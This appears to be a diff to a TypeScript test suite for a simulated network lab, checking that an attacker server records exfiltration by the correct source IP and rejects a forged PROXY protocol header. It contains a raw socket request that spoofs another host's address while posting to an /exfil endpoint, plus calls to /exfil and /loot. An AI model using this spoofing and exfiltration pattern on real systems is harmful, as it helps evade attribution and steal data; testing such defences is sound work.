@@ -60,6 +60,7 @@ describe('the mesh', () => {
     expect((await exfilFromConverter()).code).toBe(0);
     const loot = async () => ((await (await fetch(new URL('/loot', attackerUrl()))).json()) as { events: { source_ip: string; body: unknown }[] }).events;
     expect((await loot()).at(-1)!.source_ip).toBe(converter.ip);
+    const before = (await t.attackerLoot()).count;
     // Through the host port the sender is this machine; a source line of the client's own is only data.
     const spoof = await new Promise<string>((resolve, reject) => {
       const url = new URL(attackerUrl());
@@ -71,7 +72,7 @@ describe('the mesh', () => {
       socket.write(`PROXY TCP4 ${converter.ip} 10.244.0.1 4242 8080\r\nPOST /exfil HTTP/1.1\r\nhost: x\r\ncontent-length: 2\r\nconnection: close\r\n\r\n{}`);
     });
     expect(spoof).toMatch(/^HTTP\/1\.1 400/);
-    expect((await loot()).filter((event) => event.source_ip === converter.ip)).toHaveLength(1);
+    expect((await t.attackerLoot()).count).toBe(before);
     const direct = await fetch(new URL('/exfil', attackerUrl()), { method: 'POST', body: '{"from":"host"}' });
     expect(direct.status).toBe(200);
     expect((await loot()).at(-1)).toMatchObject({ source_ip: '127.0.0.1', body: { from: 'host' } });
